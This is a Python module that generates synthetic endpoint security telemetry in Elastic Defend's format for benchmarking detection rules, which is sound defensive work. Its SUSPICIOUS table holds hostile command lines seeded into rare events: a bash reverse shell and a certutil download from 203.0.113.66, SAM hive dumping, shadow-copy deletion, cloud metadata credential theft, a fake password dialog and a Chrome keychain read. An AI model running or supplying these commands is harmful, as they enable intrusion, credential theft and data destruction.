"""Made-up endpoint telemetry of any size: what the benchmarks run on.

``python -m bench.events --count N --seed S --out FILE`` writes NDJSON; `generate` yields it line by
line. Events are Elastic Defend's (process, network, file, registry, dns, library) and captured
HTTP, of 150 Windows, Linux and macOS hosts, 2.6 KB on average. Values are spread as on real fleets:
a few hundred executables of which some do most of the work, thousands of command lines with long
tails, a few dozen users. About one event in five hundred is what rules look for.

How it is fast: everything that repeats (a host, a program with its parent and one command line) is
rendered to JSON once, and an event is a join of such pieces with a few fresh numbers between them.
"""

from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import json
import random
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

Document = dict[str, Any]
Piece = tuple[str, str, str, str]
"""A program rendered: until its pid, until its entity id, until its start, and the rest."""

START = dt.datetime(2026, 11, 14, tzinfo=dt.UTC)
HOSTS = {"windows": 90, "linux": 48, "macos": 12}
COMMAND_LINES = {"windows": 4200, "linux": 3200, "macos": 900}
KINDS = (
    ("process", 30), ("network", 20), ("file", 22), ("registry", 10), ("dns", 8), ("library", 7),
    ("http", 3),
)  # fmt: skip

WORDS = [
    "audit", "backup", "billing", "cache", "client", "collector", "config", "core", "daily",
    "data", "deploy", "driver", "edge", "event", "export", "feed", "fleet", "gateway", "guard",
    "health", "helper", "host", "image", "import", "index", "inventory", "job", "journal",
    "ledger", "link", "loader", "local", "mail", "manager", "metric", "mirror", "monitor", "node",
    "order", "panel", "patch", "policy", "portal", "print", "probe", "proxy", "queue", "relay",
    "render", "report", "router", "runner", "scan", "search", "sensor", "service", "session",
    "setup", "shell", "signal", "site", "spool", "stage", "store", "stream", "sync", "system",
    "table", "task", "telemetry", "token", "tool", "trace", "update", "upload", "user", "vault",
    "viewer", "watch", "web", "worker",
]  # fmt: skip
WINDOWS_TOOLS = [
    "svchost", "conhost", "cmd", "powershell", "rundll32", "regsvr32", "taskhostw",
    "RuntimeBroker", "dllhost", "wmiprvse", "services", "lsass", "explorer", "SearchIndexer",
    "msiexec", "schtasks", "reg", "net", "net1", "whoami", "ipconfig", "sc", "wevtutil",
    "certutil", "bitsadmin", "mshta", "cscript", "wscript", "tasklist", "nslookup", "ping", "curl",
    "robocopy", "icacls", "attrib", "spoolsv", "sihost", "ctfmon", "fontdrvhost", "WerFault",
    "MsMpEng", "consent", "userinit", "winlogon", "csrss", "smss", "wininit",
]  # fmt: skip
LINUX_TOOLS = [
    "bash", "sh", "dash", "ls", "cat", "grep", "sed", "awk", "find", "xargs", "ps", "ss", "ip",
    "curl", "wget", "tar", "gzip", "chmod", "chown", "cp", "mv", "rm", "mkdir", "ln", "date",
    "sleep", "id", "uname", "hostname", "df", "du", "free", "top", "systemctl", "journalctl",
    "cron", "sshd", "sudo", "su", "python3", "perl", "node", "java", "php", "nginx", "postgres",
    "redis-server", "runc", "containerd-shim", "kubelet", "dockerd", "git", "make", "gcc", "ld",
    "apt-get", "dpkg", "rpm", "dnf", "logrotate", "rsync", "scp", "openssl", "tail", "head",
    "sort", "uniq", "wc", "tee", "env",
]  # fmt: skip
MAC_TOOLS = [
    "bash", "zsh", "launchd", "mdworker_shared", "osascript", "softwareupdated", "trustd",
    "cfprefsd", "nsurlsessiond", "xpcproxy", "python3", "git", "curl", "defaults", "plutil",
    "security", "codesign", "open", "sw_vers", "system_profiler",
]  # fmt: skip
SUSPICIOUS = {
    "windows": (
        "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
        "rundll32.exe C:\\Users\\Public\\stage.dll,Start",
        "certutil.exe -urlcache -split -f http://203.0.113.66/a.bin C:\\ProgramData\\a.bin",
        "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    "linux": (
        "bash -c bash -i >& /dev/tcp/203.0.113.66/443 0>&1",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "chmod 777 /dev/shm/.x",
        "python3 -c import pty;pty.spawn('/bin/sh')",
    ),
    "macos": (
        'osascript -e display dialog "Enter your password" default answer "" with hidden answer',
        "security find-generic-password -wa Chrome",
    ),
}


def generate(count: int, seed: int) -> Iterator[bytes]:
    """Events as NDJSON lines, each with its line feed.

    Args:
        count: how many.
        seed: the same seed gives the same bytes.
    """
    return Fleet(seed).events(count)


class Fleet:
    """Hosts, programs and command lines, rendered once; and the events made of them.

    Args:
        seed: what everything is drawn from.
    """

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)
        self.hosts: list[tuple[str, str]] = []
        self.pieces: dict[str, list[Piece]] = {}
        self.weights: dict[str, list[float]] = {}
        self.pools: dict[str, dict[str, list[str]]] = {}
        for system, many in HOSTS.items():
            executables = self._executables(system)
            self.pieces[system] = [self._piece(system, executables) for _ in range(
                COMMAND_LINES[system])]  # fmt: skip
            self.weights[system] = cumulative(COMMAND_LINES[system])
            self.pools[system] = self._pools(system)
            self.hosts += [(system, self._host(system, number)) for number in range(many)]

    def events(self, count: int) -> Iterator[bytes]:
        """Draw so many events, in order of time."""
        draw = self.random
        kinds = draw.choices(
            [kind for kind, _ in KINDS], weights=[weight for _, weight in KINDS], k=4096
        )
        makers: dict[str, Callable[[str], str]] = {
            kind: getattr(self, f"_{kind}") for kind, _ in KINDS
        }
        # One draw of piece and host for many events: random.choices is cheapest in bulk.
        plans = {
            system: draw.choices(pieces, cum_weights=self.weights[system], k=8192)
            for system, pieces in self.pieces.items()
        }
        clock, below, hosts = 0, draw.random, self.hosts
        second, stamp = -1, ""
        for number in range(count):
            if number % 8192 == 8191:
                plans = {
                    system: draw.choices(pieces, cum_weights=self.weights[system], k=8192)
                    for system, pieces in self.pieces.items()
                }
            clock += int(below() * 40)
            if clock // 1000 != second:
                second = clock // 1000
                stamp = (START + dt.timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%S.")
                later = (START + dt.timedelta(seconds=second + 3)).strftime("%Y-%m-%dT%H:%M:%S.")
            when = f"{stamp}{clock % 1000:03d}Z"
            system, host = hosts[int(below() * len(hosts))]
            kind = kinds[int(below() * 4096)]
            if kind == "registry" and system != "windows":
                kind = "file"
            to_pid, to_entity, to_start, rest = plans[system][int(below() * 8192)]
            pid = int(below() * 65000) + 2
            yield (
                f'{{"@timestamp":"{when}",{host}"event":{{"created":"{when}",'
                f'"ingested":"{later}{clock % 1000:03d}Z","id":"Nq{number:09x}Zr+{pid:x}",'
                f'"sequence":{number},"kind":"event","module":"endpoint",{makers[kind](system)},'
                f"{to_pid}{pid}{to_entity}{pid * 2654435761 % 4294967296:08x}{number:08x}"
                f"{to_start}{when}{rest}}}\n"
            ).encode()

    # -- what is fresh in every event: from ``event``'s last members to the kind's own objects

    def _process(self, system: str) -> str:
        action, kind = ("start", "start") if self.random.random() < 0.7 else ("end", "end")
        return (
            f'"action":"{action}","category":["process"],"type":["{kind}"],'
            '"dataset":"endpoint.events.process","outcome":"unknown"},'
            '"data_stream":{"dataset":"endpoint.events.process","namespace":"default",'
            '"type":"logs"},"message":"Endpoint process event"'
        )

    def _network(self, system: str) -> str:
        draw = self.random.random
        pool = self.pools[system]["address"]
        address = pool[int(draw() ** 2 * len(pool))]
        port = PORTS[int(draw() ** 2 * len(PORTS))]
        return (
            '"action":"connection_attempted","category":["network"],"type":["start"],'
            '"dataset":"endpoint.events.network","outcome":"unknown"},'
            '"data_stream":{"dataset":"endpoint.events.network","namespace":"default",'
            '"type":"logs"},"message":"Endpoint network event",'
            f'"source":{{"address":"10.{int(draw() * 9)}.3.{int(draw() * 250)}",'
            f'"ip":"10.{int(draw() * 9)}.3.{int(draw() * 250)}",'
            f'"port":{32768 + int(draw() * 28000)},"bytes":{int(draw() * 90000)}}},'
            f'"destination":{{"address":"{address}","ip":"{address}","port":{port},'
            f'"bytes":{int(draw() * 900000)}}},'
            '"network":{"direction":"egress","transport":"tcp","type":"ipv4"}'
        )

    def _file(self, system: str) -> str:
        draw = self.random.random
        pool = self.pools[system]["file"]
        action, kind = FILE_ACTIONS[int(draw() * len(FILE_ACTIONS))]
        return (
            f'"action":"{action}","category":["file"],"type":["{kind}"],'
            '"dataset":"endpoint.events.file","outcome":"unknown"},'
            '"data_stream":{"dataset":"endpoint.events.file","namespace":"default",'
            '"type":"logs"},"message":"Endpoint file event",'
            f'"file":{{{pool[int(draw() ** 2 * len(pool))]},"size":{int(draw() ** 4 * 9000000)}}}'
        )

    def _registry(self, system: str) -> str:
        pool = self.pools[system]["registry"]
        return (
            '"action":"modification","category":["registry"],"type":["change"],'
            '"dataset":"endpoint.events.registry","outcome":"unknown"},'
            '"data_stream":{"dataset":"endpoint.events.registry","namespace":"default",'
            '"type":"logs"},"message":"Endpoint registry event",'
            f'"registry":{{{pool[int(self.random.random() ** 2 * len(pool))]}}}'
        )

    def _dns(self, system: str) -> str:
        draw = self.random.random
        pool = self.pools[system]["domain"]
        name = pool[int(draw() ** 2 * len(pool))]
        return (
            '"action":"lookup_result","category":["network"],"type":["protocol","info"],'
            '"dataset":"endpoint.events.network","outcome":"success"},'
            '"data_stream":{"dataset":"endpoint.events.network","namespace":"default",'
            '"type":"logs"},"message":"DNS query is completed",'
            f'"dns":{{"question":{{"name":"{name}","type":"A","registered_domain":"example.com"}},'
            f'"resolved_ip":["192.0.2.{int(draw() * 250)}"],"response_code":"NOERROR"}},'
            '"network":{"protocol":"dns","transport":"udp"}'
        )

    def _library(self, system: str) -> str:
        pool = self.pools[system]["library"]
        return (
            '"action":"load","category":["library"],"type":["start"],'
            '"dataset":"endpoint.events.library","outcome":"unknown"},'
            '"data_stream":{"dataset":"endpoint.events.library","namespace":"default",'
            '"type":"logs"},"message":"Endpoint DLL load event",'
            f'"dll":{{{pool[int(self.random.random() ** 2 * len(pool))]}}}'
        )

    def _http(self, system: str) -> str:
        draw = self.random.random
        pool = self.pools[system]["url"]
        agent = USER_AGENTS[int(draw() ** 2 * len(USER_AGENTS))]
        return (
            '"action":"http_request","category":["network"],"type":["connection","protocol"],'
            '"dataset":"network_traffic.http","outcome":"success"},'
            '"data_stream":{"dataset":"network_traffic.http","namespace":"default",'
            '"type":"logs"},'
            f'"http":{{"request":{{"method":"{"GET" if draw() < 0.8 else "POST"}"}},'
            f'"response":{{"status_code":{200 if draw() < 0.9 else 404},'
            f'"body":{{"bytes":{int(draw() ** 3 * 500000)}}}}}}},'
            f'"url":{{{pool[int(draw() ** 2 * len(pool))]}}},'
            f'"user_agent":{{"original":"{agent}"}},'
            f'"destination":{{"ip":"192.0.2.{int(draw() * 250)}","port":80}},'
            '"network":{"protocol":"http","transport":"tcp","type":"ipv4"}'
        )

    # -- what is rendered once

    def _host(self, system: str, number: int) -> str:
        draw = self.random
        name = f"{system[:3]}-{draw.choice(WORDS)}-{number:03d}"
        known = OPERATING_SYSTEMS[system]
        key = digest("host", name)
        addresses = [f"10.{draw.randrange(9)}.{draw.randrange(250)}.{draw.randrange(250)}"
                     for _ in range(2)]  # fmt: skip
        document = {
            "agent": {"id": f"{key[:8]}-{key[8:12]}-4{key[13:16]}-9{key[17:20]}-{key[20:32]}",
                      "type": "endpoint", "version": "9.2.1",
                      "build": {"original": "version: 9.2.1, compiled: Tue Oct 14 20:00:00 2026"}},
            "ecs": {"version": "8.17.0"},
            "host": {
                "id": digest("id", name)[:32], "name": name, "hostname": name,
                "architecture": draw.choice(["x86_64", "x86_64", "x86_64", "arm64"]),
                "ip": [*addresses, "127.0.0.1", "::1", "fe80::1c2d:3e4f:5a6b:7c8d"],
                "mac": [f"02-{key[:2]}-{key[2:4]}-{key[4:6]}-{key[6:8]}-{key[8:10]}"],
                "os": known,
            },
            "cloud": {"provider": "aws", "instance": {"id": f"i-0{key[:16]}"}},
        }  # fmt: skip
        return compact(document)[1:-1] + ","

    def _executables(self, system: str) -> list[str]:
        draw = self.random
        if system == "windows":
            paths = [f"C:\\Windows\\System32\\{tool}.exe" for tool in WINDOWS_TOOLS]
            for _ in range(130):
                vendor, part = draw.choice(WORDS).title(), draw.choice(WORDS).title()
                paths.append(f"C:\\Program Files\\{vendor}\\{part}\\{vendor}{part}.exe")
            return paths
        tools, local = (LINUX_TOOLS, "/opt") if system == "linux" else (MAC_TOOLS, "/Applications")
        paths = [f"/usr/bin/{tool}" for tool in tools]
        for _ in range(90 if system == "linux" else 50):
            vendor, part = draw.choice(WORDS), draw.choice(WORDS)
            paths.append(
                f"{local}/{vendor}/bin/{vendor}-{part}"
                if system == "linux"
                else f"{local}/{vendor.title()}.app/Contents/MacOS/{part.title()}"
            )
        return paths

    def _piece(self, system: str, executables: Sequence[str]) -> Piece:
        """A program with a command line, its parent and its user, open at what changes."""
        draw = self.random
        executable = executables[int(draw.random() ** 1.7 * len(executables))]
        args = self._args(system, executable)
        if draw.random() < 0.002:
            args = draw.choice(SUSPICIOUS[system]).split(" ")
            folder = "C:\\Windows\\System32\\" if system == "windows" else "/usr/bin/"
            executable = folder + args[0]
        parent = executables[int(draw.random() ** 2 * len(executables))]
        user = draw.choice(USERS[system])
        process = described(system, executable, args) | {
            "pid": "@pid@", "entity_id": "@entity@", "start": "@start@",
            "working_directory": "C:\\Windows\\system32\\" if system == "windows" else "/",
            "uptime": draw.randrange(90000),
            "parent": named(parent, self._args(system, parent)) | {
                "pid": draw.randrange(2, 9000), "entity_id": digest("e", parent)[:24],
            },
            "Ext": {
                "ancestry": [digest(str(draw.random()), parent)[:24] for _ in range(2)],
                "authentication_id": hex(draw.randrange(900, 999999)),
                "token": {"integrity_level_name": draw.choice(["system", "high", "medium"]),
                          "elevation": draw.random() < 0.4},
            },
        }  # fmt: skip
        if system != "windows":
            leader = {"executable": parent, "name": base(parent), "pid": draw.randrange(2, 9000),
                      "entity_id": digest("l", parent)[:24], "interactive": draw.random() < 0.1,
                      "user": {"id": "0", "name": "root"}}  # fmt: skip
            brief = {key: leader[key] for key in ("entity_id", "pid", "interactive")}
            process |= {"session_leader": brief, "group_leader": brief, "entry_leader": leader}
        document = {"process": process, "user": {"name": user, "id": USER_IDS[user],
                    "domain": "CORP" if system == "windows" else "local"}}  # fmt: skip
        text = "," + compact(document)[1:-1]
        to_pid, text = text.split('"@pid@"')
        to_entity, text = text.split("@entity@")
        to_start, rest = text.split("@start@")
        return to_pid.lstrip(","), to_entity, to_start, rest

    def _args(self, system: str, executable: str) -> list[str]:
        draw = self.random
        args = [executable if draw.random() < 0.5 else base(executable)]
        for _ in range(min(14, int(draw.expovariate(0.4)))):
            word, other = draw.choice(WORDS), draw.choice(WORDS)
            form = draw.randrange(7)
            args.append(
                (
                    f"--{word}={other}", f"-{word[0]}",
                    f"{word}.{other}.svc:{draw.randrange(9999)}",
                    f"C:\\ProgramData\\{word}\\{other}.log" if system == "windows"
                    else f"/var/lib/{word}/{other}.db",
                    f"{draw.getrandbits(48):012x}", f"/{word}" if system == "windows" else word,
                    f"https://{word}.example.com/api/{other}?id={draw.randrange(99999)}",
                )[form]
            )  # fmt: skip
        return args

    def _pools(self, system: str) -> dict[str, list[str]]:
        """Values of the kinds' own objects, rendered without their braces."""
        draw = self.random
        pools: dict[str, list[str]] = {
            "address": [f"{draw.choice(['10.4', '10.8', '192.0.2', '198.51.100'])}."
                        f"{draw.randrange(250)}.{draw.randrange(250)}" for _ in range(1500)],
            "domain": [f"{draw.choice(WORDS)}-{draw.choice(WORDS)}.{draw.choice(WORDS)}.example.com"
                       for _ in range(2500)],
        }  # fmt: skip
        pools["address"] = [".".join(text.split(".")[:4]) for text in pools["address"]]
        pools["file"] = [members(self._some_file(system)) for _ in range(4000)]
        pools["library"] = [members(self._some_library(system)) for _ in range(900)]
        pools["url"] = [members(self._some_url()) for _ in range(1800)]
        pools["registry"] = [members(self._some_key()) for _ in range(2500)]
        return pools

    def _some_file(self, system: str) -> Document:
        draw = self.random
        word, other = draw.choice(WORDS), draw.choice(WORDS)
        end = draw.choice(["log", "tmp", "json", "dll", "exe", "db", "txt", "py", "xml", "dat"])
        name = f"{other}-{draw.getrandbits(20):05x}.{end}"
        folder = draw.choice(FOLDERS[system]).replace("@", word)
        return {"name": name, "path": folder + name, "extension": end,
                "directory": folder[:-1], "Ext": {"entropy": round(draw.random() * 8, 3)},
                "hash": {"sha256": digest("f", name)}}  # fmt: skip

    def _some_library(self, system: str) -> Document:
        draw = self.random
        name = f"{draw.choice(WORDS)}{draw.choice(WORDS)}.{'dll' if system == 'windows' else 'so'}"
        folder = "C:\\Windows\\System32\\" if system == "windows" else "/usr/lib/"
        return {"name": name, "path": folder + name,
                "hash": {"md5": digest("m", name)[:32], "sha1": digest("1", name)[:40],
                         "sha256": digest("2", name)},
                "pe": {"imphash": digest("i", name)[:32], "original_file_name": name},
                "code_signature": signature(draw.random() < 0.9)}  # fmt: skip

    def _some_url(self) -> Document:
        draw = self.random
        domain = f"{draw.choice(WORDS)}.example.com"
        path = "/" + "/".join(draw.choice(WORDS) for _ in range(draw.randrange(1, 5)))
        query = f"id={draw.randrange(10**6)}&q={draw.choice(WORDS)}"
        return {"scheme": "http", "domain": domain, "path": path, "query": query,
                "full": f"http://{domain}{path}?{query}"}  # fmt: skip

    def _some_key(self) -> Document:
        draw = self.random
        hive = draw.choice(["HKLM", "HKLM", "HKU\\S-1-5-21-1004-1005-1006-1107"])
        key = f"SOFTWARE\\{draw.choice(WORDS).title()}\\{draw.choice(WORDS).title()}"
        value = draw.choice(["Path", "Start", "Version", "LastRun", "ImagePath", "Enabled", "Run"])
        data = [f"C:\\ProgramData\\{draw.choice(WORDS)}\\{draw.randrange(999)}"]
        return {"hive": hive.split("\\")[0], "key": key, "value": value,
                "path": f"{hive}\\{key}\\{value}",
                "data": {"type": "REG_SZ", "strings": data}}  # fmt: skip


PORTS = (
    443,
    443,
    443,
    443,
    80,
    53,
    445,
    389,
    88,
    135,
    5432,
    3306,
    6379,
    22,
    3389,
    8080,
    8443,
    9200,
)
FILE_ACTIONS = (
    ("creation", "creation"), ("creation", "creation"), ("deletion", "deletion"),
    ("modification", "change"), ("overwrite", "change"), ("rename", "change"), ("open", "access"),
)  # fmt: skip
FOLDERS = {
    "windows": ("C:\\Windows\\Temp\\", "C:\\ProgramData\\@\\",
                "C:\\Users\\anna\\AppData\\Local\\@\\",
                "C:\\Windows\\System32\\", "C:\\Users\\ben\\Downloads\\"),
    "linux": ("/tmp/", "/var/log/@/", "/var/lib/@/", "/home/deploy/@/", "/etc/@/", "/opt/@/lib/"),
    "macos": ("/private/tmp/", "/Users/carla/Library/Caches/@/", "/Library/@/"),
}  # fmt: skip
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Safari/605.1.15",
    "Boto3/1.35.71 md/Botocore#1.35.71 ua/2.0 os/linux#6.8.0 lang/python#3.12.3",
    "Go-http-client/1.1", "Microsoft-CryptoAPI/10.0", "Debian APT-HTTP/1.3 (2.7.14)",
    "python-requests/2.32.3", "curl/8.5.0", "Microsoft-Delivery-Optimization/10.1",
)  # fmt: skip
USERS = {
    "windows": ("SYSTEM", "SYSTEM", "LOCAL SERVICE", "NETWORK SERVICE", "anna", "ben", "svc_sql"),
    "linux": ("root", "root", "www-data", "postgres", "deploy", "app"),
    "macos": ("root", "carla", "dora"),
}
USER_IDS = {
    "SYSTEM": "S-1-5-18", "LOCAL SERVICE": "S-1-5-19", "NETWORK SERVICE": "S-1-5-20",
    "anna": "S-1-5-21-1004-1005-1006-1107", "ben": "S-1-5-21-1004-1005-1006-1108",
    "svc_sql": "S-1-5-21-1004-1005-1006-1120", "root": "0", "www-data": "33", "postgres": "114",
    "deploy": "1000", "app": "1001", "carla": "501", "dora": "502",
}  # fmt: skip
OPERATING_SYSTEMS: dict[str, Document] = {
    "windows": {"type": "windows", "family": "windows", "name": "Windows", "platform": "windows",
                "version": "2022 (10.0.20348.2849)", "kernel": "2022 (10.0.20348.2849)",
                "full": "Windows Server 2022 Datacenter 21H2",
                "Ext": {"variant": "Windows Server 2022 Datacenter"}},
    "linux": {"type": "linux", "family": "debian", "name": "Linux", "platform": "ubuntu",
              "version": "24.04.1", "kernel": "6.8.0-49-generic #49-Ubuntu SMP PREEMPT_DYNAMIC",
              "full": "Ubuntu 24.04.1", "Ext": {"variant": "Ubuntu"}},
    "macos": {"type": "macos", "family": "macos", "name": "macOS", "platform": "macos",
              "version": "26.1", "kernel": "25.1.0", "full": "macOS 26.1",
              "Ext": {"variant": "macOS"}},
}  # fmt: skip


def named(executable: str, args: Sequence[str]) -> Document:
    """A program as it appears in its children's events."""
    return {
        "executable": executable, "name": base(executable), "args": list(args),
        "args_count": len(args), "command_line": " ".join(args),
    }  # fmt: skip


def described(system: str, executable: str, args: Sequence[str]) -> Document:
    """A program as endpoint sensors describe it."""
    known = named(executable, args) | {
        "hash": {"md5": digest("m", executable)[:32], "sha1": digest("1", executable)[:40],
                 "sha256": digest("2", executable)},
    }  # fmt: skip
    if system == "windows":
        known["pe"] = {
            "original_file_name": base(executable),
            "imphash": digest("i", executable)[:32],
        }
    if system != "linux":
        known["code_signature"] = signature(True)
    return known


def signature(trusted: bool) -> Document:
    """A code signature."""
    return {"exists": trusted, "status": "trusted" if trusted else "noSignature",
            "subject_name": "Example Software Publisher" if trusted else "",
            "trusted": trusted}  # fmt: skip


def base(path: str) -> str:
    """The last part of a path, on any system."""
    return path.replace("\\", "/").rsplit("/", 1)[-1]


def digest(salt: str, text: str) -> str:
    """64 hexadecimal digits that depend on the text alone."""
    return hashlib.sha256(f"{salt}:{text}".encode()).hexdigest()


def compact(document: Document) -> str:
    """JSON without blanks."""
    return json.dumps(document, separators=(",", ":"), ensure_ascii=False)


def members(document: Document) -> str:
    """An object's JSON without its braces."""
    return compact(document)[1:-1]


def cumulative(count: int) -> list[float]:
    """Cumulative weights of a long tail: the n-th value comes 1/n^0.8 as often as the first."""
    total, weights = 0.0, []
    for rank in range(1, count + 1):
        total += rank**-0.8
        weights.append(total)
    return weights


def main(arguments: Sequence[str] | None = None) -> None:
    """The command of this module's head."""
    parser = argparse.ArgumentParser(
        prog="python -m bench.events", description=__doc__.split("\n")[0]
    )
    parser.add_argument("--count", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", type=Path, required=True)
    options = parser.parse_args(arguments)
    began, size = time.perf_counter(), 0
    with options.out.open("wb", buffering=1 << 20) as file:
        for line in generate(options.count, options.seed):
            size += file.write(line)
    took = time.perf_counter() - began
    sys.stdout.write(
        f"{options.out}: {options.count} events, {size / 1e6:.1f} MB, "
        f"{size / max(options.count, 1):.0f} bytes each, {options.count / took:,.0f} a second\n"
    )


if __name__ == "__main__":
    main()
